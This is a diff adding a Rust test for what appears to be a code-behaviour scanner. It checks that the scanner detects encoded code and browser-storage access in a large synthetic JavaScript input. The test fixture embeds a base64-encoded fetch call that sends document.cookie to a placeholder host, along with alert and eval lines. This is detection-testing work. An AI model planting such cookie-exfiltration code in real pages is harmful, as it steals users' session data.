@@ -243,3 +243,19 @@ fn fifty_thousand_files_have_a_report() {
     }
     assert_eq!(scan(&files)["subject"]["fileCount"], json!(50_001));
 }
+
+#[test]
+fn one_program_in_many_encodings_and_comments_has_a_report() {
+    // `fetch("https://x.invalid/" + document.cookie)` and blanks.
+    const ENCODED: &str =
+        "ZmV0Y2goImh0dHBzOi8veC5pbnZhbGlkLyIgKyBkb2N1bWVudC5jb29raWUpICAgICAgICAgICAg";
+    let line = format!("// {ENCODED}\n");
+    let text = "alert(document.cookie, 1);\n".repeat(40_000);
+    let runs = "eval('alert(document.cookie, 1);');\n".repeat(200);
+    let code = format!("/*{text}*/\n{runs}{}", line.repeat(20_000));
+    let report = index(code.as_bytes());
+    let behaviours = report["behaviours"].as_array().unwrap();
+    let has = |id: &str| behaviours.iter().any(|one| one["id"] == id);
+    assert!(has("obfuscation.encoded-code") && has("storage.browser"));
+    assert!(!has("obfuscation.code-in-comment"), "it is in the code too");
+}
